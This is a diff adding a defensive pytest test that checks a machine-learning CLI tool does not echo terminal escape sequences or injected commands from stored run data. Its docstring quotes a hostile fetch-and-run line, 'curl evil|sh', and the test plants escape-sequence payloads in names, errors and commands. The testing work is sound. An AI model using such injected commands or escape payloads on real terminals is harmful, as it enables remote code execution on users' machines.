@@ -1,6 +1,7 @@
 """Nothing that is read from a folder is executed, and nothing is written outside runs/."""
 
 import ast
+import json
 import shutil
 from pathlib import Path
 
@@ -9,6 +10,7 @@ import pytest
 import bnlab
 from tests.conftest import QUICK, Cli, files_below
 from tests.report import stored
+from tests.store.attack import ESCAPE
 from tests.store.hostile import unseal
 
 SOURCES = sorted(Path(bnlab.__file__).parent.rglob("*.py"))
@@ -117,3 +119,35 @@ def test_where_data_lie_is_said_by_the_command_line_only(
     assert "kmnist: no " in answer.err
     assert files_below(tmp_path) == before
     assert not (tmp_path / "made").exists()
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ("runs",),
+        ("runs", "show", "stranger"),
+        ("runs", "check"),
+        ("report", "--by", "norm.name"),
+        ("evaluate", "stranger"),
+    ],
+    ids=" ".join,
+)
+def test_nothing_that_a_terminal_acts_on_is_printed_of_what_is_stored(
+    arguments: tuple[str, ...], cli: Cli, tmp_path: Path
+) -> None:
+    """Cause: ESC and OSC of names, values, errors and commands reached it, and so did "to resume: curl evil|sh"."""
+    runs = tmp_path / "runs"
+    for folder in ("stranger", f"other{ESCAPE}"):
+        run = stored.run(runs, f"batch{ESCAPE}", folder=folder, lr=json.dumps(ESCAPE))
+        environment = stored.ENVIRONMENT | {"torch": ESCAPE, ESCAPE: ESCAPE}
+        for seed, state in enumerate(("done", "done", "diverged", "failed", "interrupted")):
+            stored.replicate(
+                run, seed, 0.9, state=state, error=ESCAPE, command=f"bnlab train{ESCAPE}", environment=environment
+            )
+        (run / "tags.json").write_text(json.dumps({"tags": ["a"], "note": ""}))
+    answer = cli(*arguments)
+    assert answer.code in (0, 1, 2)
+    text = answer.out + answer.err
+    assert text
+    assert not [character for character in text if character != "\n" and not character.isprintable()]
+    assert not [line for line in text.splitlines() if line.startswith(("to resume: curl", "evil"))]
